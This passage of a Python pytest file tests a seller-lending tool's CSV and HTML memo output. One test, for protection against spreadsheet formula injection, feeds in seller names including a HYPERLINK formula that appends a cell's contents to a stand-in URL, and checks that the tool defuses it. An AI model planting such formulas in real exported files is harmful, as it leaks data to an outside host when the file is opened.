    (tmp_path / "full" / "memo.html").mkdir(parents=True)
    for output in ("file", "file/below", "full", "/proc/desk"):
        with pytest.raises(SystemExit):
            desk.main([*files, "--output", output])
        error = capsys.readouterr().err
        assert "--output must be a folder" in error and error.count("\n") == 1


@pytest.mark.parametrize("failing", [1, 2])
def test_both_files_are_new_or_none_is(tmp_path, monkeypatch, failing):
    first, second, calls = tmp_path / "a", tmp_path / "b", []
    first.write_text("old a", encoding="utf-8")

    def replace(source, target, os_replace=os.replace):
        calls.append(target)
        if len(calls) == failing:
            raise OSError("disk full")
        os_replace(source, target)

    monkeypatch.setattr(os, "replace", replace)
    with pytest.raises(OSError, match="disk full"):
        write_together({first: "new a", second: "new b"})
    assert first.read_text(encoding="utf-8") == "old a" and [path.name for path in tmp_path.iterdir()] == ["a"]
    monkeypatch.undo()
    write_together({first: "new a", second: "new b"})
    assert [path.read_text(encoding="utf-8") for path in (first, second)] == ["new a", "new b"]
    assert len(list(tmp_path.iterdir())) == 2


def test_names_are_no_formulas_for_a_spreadsheet(files):
    names = ['=HYPERLINK("http://x/"&A1,"Click")', "+1", "-2", "@x", "plain"]
    frame = pd.DataFrame({"seller": names, "kind": "shop", "price": 8.0})
    frame.to_csv("sellers.csv", index=False)
    desk.main([*files, "--name", "seller", "--refits", "0"])
    written = pd.read_csv("desk/decisions.csv")
    assert written["seller"].tolist() == [*(f"'{name}" for name in names[:-1]), "plain"]
    frame = pd.DataFrame({"x": ["\t1", "a"]}, ["\r=1", "b"])
    assert disarm(frame).reset_index().to_numpy().tolist() == [["'\r=1", "'\t1"], ["b", "a"]]


def test_a_terminal_without_the_letters_of_a_name_is_no_fault(files, monkeypatch):
    os.rename("history.csv", "Geschäft.csv")
    files[4] = "Geschäft.csv"
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(io.BytesIO(), encoding="ascii"))
    desk.main([*files, "--refits", "0", "--output", "größe"])
    sys.stdout.seek(0)
    assert "fitted to Gesch\\xe4ft.csv" in sys.stdout.read() and os.path.exists("größe/memo.html")


# The memo.


def test_the_risk_table_of_the_memo_is_that_of_the_law(found, tmp_path):
    write_memo(found, tmp_path / "memo.html")
    text = (tmp_path / "memo.html").read_text(encoding="utf-8")
    for i, section in enumerate(text.split('<section id=')[1:]):
        row, law, revenue = found.table.iloc[i], found.curve[i], found.unit_revenue[i]
        cells = re.findall(r"<t[hd][^>]*>([^<]*)</t[hd]>", re.findall(r"<table.*?</table>", section, re.S)[0])
        assert cells[:5] == ["", "PD", "EL", "LGD", "√E[L²]"]
        for k, share in enumerate(SHARES):
            loan = row["amount"] * share
            risk = {name: value.item() for name, value in risk_profile(law, loan, unit_revenue=revenue).items()}
            given = "none" if np.isnan(risk["loss_given_default"]) else f"{risk['loss_given_default']:,.1f}"
            expected = [f"{risk['default_probability']:.2%}", f"{risk['expected_loss']:,.1f}", given]
            assert cells[5 + 5 * k : 10 + 5 * k] == [
                f"loan {loan:,.0f}", *expected, f"{np.sqrt(risk['squared_loss']):,.1f}"
            ]  # fmt: skip


def read_charts(text):
    """Labels of the upright axis with their places, points of the line, and the left end of the axis."""
    for chart in re.findall(r'<svg class="chart".*?</svg>', text, re.S):
        ticks = re.findall(r'<text x="([\d.]+)" y="([\d.]+)" text-anchor="end">([^<]*)</text>', chart)
        left = float(re.search(r'class="axis" d="M([\d.]+),', chart)[1])
        line = re.search(r'<path d="M([^"]*)" stroke-width', chart)[1]
        points = np.array([[float(x) for x in point.split(",")] for point in line.split("L")])
        upright = [(float(y) - 4, word) for x, y, word in ticks if float(x) == left - 6]
        yield left, upright, points


def test_the_charts_of_the_memo_draw_what_their_axes_say(found, tmp_path):
    write_memo(found, tmp_path / "memo.html")
    charts = list(read_charts((tmp_path / "memo.html").read_text(encoding="utf-8")))
    for i in range(3):
        for (_, upright, points), exact in zip(
            charts[2 * i : 2 * i + 2],
            [
                found.curve.ppf(np.linspace(0, 1, 101))[i],
                None,
            ],
        ):
            heights, words = np.array([y for y, _ in upright]), [float(w.replace(",", "")) for _, w in upright]
            scale = np.polyfit(heights, words, 1)
            drawn = np.polyval(scale, points[:, 1])
            if exact is None:
                assert [word for _, word in upright] == ["0", "0.5", "1"]
                top = 1.5 * found.table["amount"].iloc[i]
                top = max(top, found.unit_revenue[i] * found.curve.ppf(0.6)[i, 0])
                loans, revenue = np.linspace(0, top, 101), found.unit_revenue[i]
                exact = default_probability(found.curve[i], loans, unit_revenue=revenue)
            np.testing.assert_allclose(drawn, np.ravel(exact), atol=0.01 * max(words))


@pytest.mark.parametrize("scale", [1e-4, 1.0, 3e3, 2.5e6])
def test_numbers_at_the_axes_are_whole_and_without_powers_of_ten(found, model, past, scale, tmp_path):
    curve = found.curve.map(lambda sales: sales * scale)
    other = decisions.Decisions(**{**vars(found), "curve": curve, "refits": []})
    write_memo(other, tmp_path / "memo.html")
    for left, upright, _ in read_charts((tmp_path / "memo.html").read_text(encoding="utf-8")):
        for _, word in upright:
            assert "e" not in word and left - 6 - 7 * len(word) > 0


def test_many_sellers_get_a_row_each_and_a_section_if_asked_for(model, past, tmp_path):
    new = pd.DataFrame({"kind": "shop", "price": np.linspace(6, 14, 205)}, [f"S{i}" for i in range(205)])
    found = desk.decide(model, *past, new, LIMITS, "price", n_refits=0, n_folds=0, rng=0)
    write_memo(found, tmp_path / "memo.html")
    text = html.unescape((tmp_path / "memo.html").read_text(encoding="utf-8"))
    assert text.count('<section id=') == 200 and text.count("<option>") == 200 and "<th>S204</th>" in text
    assert "those of 200 of 205 sellers" in text
    write_memo(found, tmp_path / "memo.html", ["S204", "S3"])
    text = (tmp_path / "memo.html").read_text(encoding="utf-8")
    assert re.findall("<h2>(.*)</h2>", text)[-2:] == ["S204", "S3"] and text.count('<section id=') == 2
    assert "those of 2 of 205 sellers" in text
    with pytest.raises(ValueError, match=r"names of memos must be sellers such as .*, got \['Zoe'\]"):
        write_memo(found, tmp_path / "memo.html", ["Zoe"])


def test_the_command_reads_files_of_a_european_spreadsheet(tmp_path):
    rows = "price;ads;units\n" + "2,5;1;1.030\n3,5;2;1.020\n4,5;3;1.010\n5,5;1;1.015\n" * 120
    (tmp_path / "history.csv").write_bytes(rows.encode("latin-1"))
    (tmp_path / "sellers.csv").write_bytes("price;ads;name\n3,5;2;Müller\n".encode("latin-1"))
    files = [str(tmp_path / "sellers.csv"), "--history", str(tmp_path / "history.csv"), "--target", "units"]
    files += ["--folds", "0"]
    form = ["--separator", ";", "--decimal", ",", "--thousands", ".", "--encoding", "latin-1"]
    desk.main([*files, *form, "--name", "name", "--refits", "0", "--output", str(tmp_path / "out")])
    table = pd.read_csv(tmp_path / "out" / "decisions.csv", index_col="seller")
    assert table.loc["Müller", "loan"] == pytest.approx(1020, abs=1)


def test_refits_keep_a_level_that_is_rare_in_the_history(tmp_path):
    """Twenty resamples lose a shop of two sales with probability one, as good as."""
    rng = np.random.default_rng(3)
    history = pd.DataFrame({"store": ["rare"] * 2 + list(rng.choice(["a", "b"], 198)), "price": rng.uniform(1, 2, 200)})
    history.assign(units=rng.gamma(4, 20, 200).round()).to_csv(tmp_path / "history.csv", index=False)
    (tmp_path / "sellers.csv").write_text("store,price\nrare,1.5\n", encoding="utf-8")
    files = [str(tmp_path / "sellers.csv"), "--history", str(tmp_path / "history.csv"), "--target", "units"]
    files += ["--folds", "0"]
    desk.main([*files, "--refits", "20", "--output", str(tmp_path / "out")])
    table = pd.read_csv(tmp_path / "out" / "decisions.csv")
    assert table[["loan", "loan_low", "loan_high"]].notna().all(axis=None)


def test_risk_and_warnings_are_those_of_what_is_lent(past, sellers):
    X, sales = past
    model = QRGMM(levels=20).fit(X, sales)
    found = desk.decide(model, X, sales, sellers, {"max_default_probability": 0.1}, "price", n_refits=0, rng=0)
    amounts, revenue = found.table["amount"].to_numpy(), found.unit_revenue
    at = found.curve.lower_partial_moment((amounts / revenue)[:, None], 0)[:, 0]
    np.testing.assert_allclose(found.table["probability_at_amount"], at, atol=1e-12)
    loss = found.curve.lower_partial_moment((amounts / revenue)[:, None], 1)[:, 0] * revenue
    np.testing.assert_allclose(found.table["loss_at_amount"], loss, rtol=1e-9)
    share = found.table["comparable_share_at_amount"].to_numpy()
    warned = found.table["warnings"].str.contains("comparable").to_numpy()
    expected = np.clip(share, at, 0.1)
    beyond = np.abs(share - expected) > 2 * np.sqrt(expected * (1 - expected) / found.comparables.shape[1])
    np.testing.assert_array_equal(warned, beyond)
